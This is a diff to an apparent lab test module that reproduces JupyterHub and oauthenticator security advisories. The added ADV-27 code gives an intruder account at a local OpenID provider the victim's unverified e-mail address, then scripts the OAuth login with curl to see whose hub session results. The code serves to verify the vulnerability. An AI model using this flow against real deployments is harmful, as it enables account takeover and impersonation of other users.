@@ -1,4 +1,4 @@
-"""What the attacks of JupyterHub's 2026 advisories achieve (claims ADV-20..ADV-26).
+"""What the attacks of JupyterHub's and oauthenticator's 2026 advisories achieve (claims ADV-20..ADV-27).
 
 Used by ``runbooks/advisories/jupyterhub-recent.md``, which starts one hub of
 the pinned release (6.1.1, ``containers/hub/``) and one of 5.4.3
@@ -14,9 +14,11 @@ REST API as the holder of a token.
 
 from __future__ import annotations
 
+import json
 import re
 import shlex
 import time
+from urllib.parse import parse_qs, urlsplit
 
 from jsv.claims import Observation
 from jsv.environments import JupyterHub, NetClient
@@ -255,3 +257,61 @@ def _ready_again(target: JupyterHub, markers: int, timeout: float = 90) -> bool:
             return False
         time.sleep(0.5)
     return False
+
+
+# -- ADV-27: oauthenticator's Auth0OAuthenticator and an unverified e-mail address ------------------------
+class JupyterHubOauth173(JupyterHub):
+    """The hub image with oauthenticator 17.3.0 (``containers/hub-adv-oauth-17.3/``): ADV-27's control."""
+
+    environment = "hub-adv-oauth-17.3"
+
+
+VICTIM_EMAIL = "alice@uni.test"
+INTRUDER = "mallory"
+INTRUDER_CLAIMS = {"email": VICTIM_EMAIL, "email_verified": False}
+"""ADV-27: mallory's account at the provider carries alice's address, which the provider has not verified."""
+
+OAUTH_STEP = "curl -s -b {jar} -c {jar} -o /dev/null -w '%{{http_code}} %{{redirect_url}}\\n' {url}"
+OAUTH_CALLBACK = curl_from_environment("CALLBACK", "url", "{}")
+
+
+def auth0_setup(hub: JupyterHub, discovery: dict[str, str], provider_host: str) -> JupyterHub:
+    """Auth0OAuthenticator with the lab's OpenID Connect provider in Auth0's place; users named by e-mail."""
+    return hub.with_env("JSV_OAUTH_CLIENT_SECRET", new_token(f"{hub.alias}-oauth-client-secret")).with_config(
+        "c.JupyterHub.authenticator_class = 'auth0'",
+        f"c.Auth0OAuthenticator.auth0_domain = {provider_host!r}",
+        "c.Auth0OAuthenticator.client_id = 'jupyterhub'",
+        "c.Auth0OAuthenticator.client_secret = os.environ['JSV_OAUTH_CLIENT_SECRET']",
+        f"c.Auth0OAuthenticator.authorize_url = {discovery['authorization_endpoint']!r}",
+        f"c.Auth0OAuthenticator.token_url = {discovery['token_endpoint']!r}",
+        f"c.Auth0OAuthenticator.userdata_url = {discovery['userinfo_endpoint']!r}",
+        "c.Auth0OAuthenticator.scope = ['openid', 'email']",
+        "c.Auth0OAuthenticator.allow_all = True",
+    )
+
+
+def set_intruder_claims(client: NetClient, provider_url: str) -> None:
+    """Give mallory's subject at the provider the claims of :data:`INTRUDER_CLAIMS`."""
+    body = shlex.quote(json.dumps(INTRUDER_CLAIMS))
+    json_header = "-H 'Content-Type: application/json'"
+    client.run(f"curl -s -X PUT {json_header} -d {body} {provider_url}/users/{INTRUDER}")
+
+
+def unverified_email_login(client: NetClient, target: JupyterHub) -> Observation:
+    """ADV-27: mallory logs in through the provider; which hub user does the session belong to?"""
+    jar = f"/tmp/{target.alias}-{INTRUDER}"
+    client.run(f"rm -f {jar}")
+    start = client.run(OAUTH_STEP.format(jar=jar, url=target.url("/hub/oauth_login")))
+    authorize = start.stdout.split()[-1]
+    answer = client.run(OAUTH_STEP.format(jar=jar, url=f"-d sub={INTRUDER} {shlex.quote(authorize)}"))
+    callback = answer.stdout.split()[-1]
+    codes = parse_qs(urlsplit(callback).query).get("code", [])
+    if codes:
+        register(codes[0], "oauth-code")
+    visit = client.run(OAUTH_STEP.format(jar=jar, url=OAUTH_CALLBACK), environment={"CALLBACK": callback})
+    register_jar(client, jar)
+    whoami = client.http(target.url("/hub/api/user"), "-b", jar)
+    name = whoami.json().get("name") if whoami.status == 200 else None
+    status = visit.stdout.split()[0] if visit.stdout.split() else "0"
+    answers = {"callback": int(status) if status.isdigit() else 0, "session of": name}
+    return Observation(answers, f"{visit.transcript}\n\n{whoami.transcript}")
